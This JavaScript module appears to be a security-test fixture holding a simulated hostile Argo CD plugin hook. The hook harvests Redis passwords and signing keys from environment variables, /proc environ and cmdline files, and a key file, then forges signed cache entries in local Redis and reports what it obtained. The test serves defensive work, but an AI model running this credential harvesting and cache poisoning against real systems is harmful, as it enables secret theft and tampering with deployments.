import { FORGE_VICTIM_ENTRIES } from './forge-entries.js';

/**
 * Repository code that a plugin runs (a helmfile hook, a kustomize exec plugin, a cdk8s app):
 * it tries every way we know to get at the service's credentials and at Redis, then uses what
 * it found (a Redis password, a signing key) to write signed entries over the victim app's cache
 * entries (lib/forge-entries.ts), and reports what it got and did in the manifests it prints, so
 * the test reads the attack's outcome from the answer itself. Runs with the plugin's uid, env and
 * cwd, as `node hook.mjs`.
 *
 * Targets come from the request env, as an attacker would know them: ARGOCD_ENV_KEYFILE (the
 * signing key file's well-known path), ARGOCD_ENV_REDIS_PORT (Redis is on the network).
 * ARGOCD_ENV_SCOPE_PID (the test process) bounds the /proc search to the system under test: in a
 * pod the PID namespace holds only the pod's processes, while a test machine also runs other
 * test files' (and other people's) workers, whose environ a root plugin reads without that
 * saying anything about the process under test. ARGOCD_ENV_SAME_UID=1 (the runner has the
 * worker's uid: /proc and files are not separated) makes step 5 use only what its own env holds.
 */
export const ATTACK_HOOK = String.raw`
import crypto from 'node:crypto';
import fs from 'node:fs';
import net from 'node:net';
import zlib from 'node:zlib';

const got = [];
// What step 5 uses: Redis passwords and signing keys from the env entries we read (with
// ARGOCD_ENV_SAME_UID=1, only from our own env).
const passwords = new Set(), keyFiles = new Set(), keys = new Set();
const harvest = (entries, ownEnv) => {
  if (!ownEnv && process.env.ARGOCD_ENV_SAME_UID === '1') return;
  for (const [name, value] of entries) {
    if (!value) continue;
    if (name === 'REDIS_PASSWORD') passwords.add(value);
    if (name === 'CMP_OFFLOAD_SIGNING_KEY') keys.add(Buffer.from(value));
    if (name === 'CMP_OFFLOAD_SIGNING_KEY_FILE') keyFiles.add(value);
    for (const url of value.match(/rediss?:\/\/\S+/g) ?? []) try { const pw = decodeURIComponent(new URL(url).password); if (pw) passwords.add(pw); } catch {}
  }
};
// 1. Our own env.
for (const name of Object.keys(process.env)) if (/^(CMP_OFFLOAD_|REDIS)/i.test(name)) got.push('env:' + name);
harvest(Object.entries(process.env), true);
// 2. Every process of the system under test we can see: its environ and its command line.
const scope = Number(process.env.ARGOCD_ENV_SCOPE_PID);
const parentOf = pid => {
  try {
    const stat = fs.readFileSync('/proc/' + pid + '/stat', 'latin1');
    return Number(stat.slice(stat.lastIndexOf(')') + 2).split(' ')[1]);
  } catch {
    return 0;
  }
};
const inScope = pid => {
  if (!Number.isSafeInteger(scope) || scope <= 1) return true;
  for (let p = pid, hops = 0; p > 1 && hops < 100; p = parentOf(p), hops++) if (p === scope) return true;
  return false;
};
for (const pid of fs.readdirSync('/proc').filter(d => /^\d+$/.test(d) && inScope(Number(d)))) {
  for (const f of ['environ', 'cmdline']) {
    try {
      const text = fs.readFileSync('/proc/' + pid + '/' + f, 'latin1');
      if (/CMP_OFFLOAD_(SIGNING_KEY|REDIS_URL)|redis:\/\/[^@\s]*:[^@\s]+@/.test(text)) got.push(f + ':' + pid);
      harvest(text.split('\0').map(kv => [kv.slice(0, kv.indexOf('=')), kv.slice(kv.indexOf('=') + 1)]), false);
    } catch {}
  }
}
// 3. The key file, at its well-known path or where an env we read names it.
try { fs.readFileSync(process.env.ARGOCD_ENV_KEYFILE); got.push('keyfile'); harvest([['CMP_OFFLOAD_SIGNING_KEY_FILE', process.env.ARGOCD_ENV_KEYFILE]], false); } catch {}
for (const file of keyFiles) {
  try {
    const bytes = fs.readFileSync(file);
    const text = bytes.toString('latin1');
    keys.add(bytes.subarray(0, text.length - (text.endsWith('\r\n') ? 2 : text.endsWith('\n') ? 1 : 0))); // read as bytes
    keys.add(Buffer.from(bytes.toString('utf8').replace(/\r?\n$/, ''), 'utf8')); // read as text
  } catch {}
}
// 4. Redis without the password: PING, then try to plant a cache entry for the victim.
const port = Number(process.env.ARGOCD_ENV_REDIS_PORT);
const victim = '{cmp-offload}:out:hostile:victim:' + 'f'.repeat(64);
const replies = await new Promise(resolve => {
  let out = '';
  const s = net.connect(port, '127.0.0.1', () => {
    s.write('*1\r\n$4\r\nPING\r\n');
    s.write('*3\r\n$3\r\nSET\r\n$' + victim.length + '\r\n' + victim + '\r\n$6\r\nforged\r\n');
  });
  s.on('data', d => { out += d; if (out.split('\r\n').length > 2) s.end(); });
  s.on('error', () => resolve(out));
  s.on('close', () => resolve(out));
  setTimeout(() => { s.destroy(); resolve(out); }, 3000);
});
if (/^\+(PONG|OK)/m.test(replies)) got.push('redis');
// 5. Use what we found: log in with the password, sign the attacker's manifest over the victim's entries.
${FORGE_VICTIM_ENTRIES}
const used = await forgeVictimEntries('127.0.0.1', port, [...passwords], [...keys]);
process.stdout.write(JSON.stringify({ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: process.env.ARGOCD_APP_NAME }, data: { got: got.join(' ') || 'nothing', redis: replies.split('\r\n')[0], used } }) + '\n');
`;
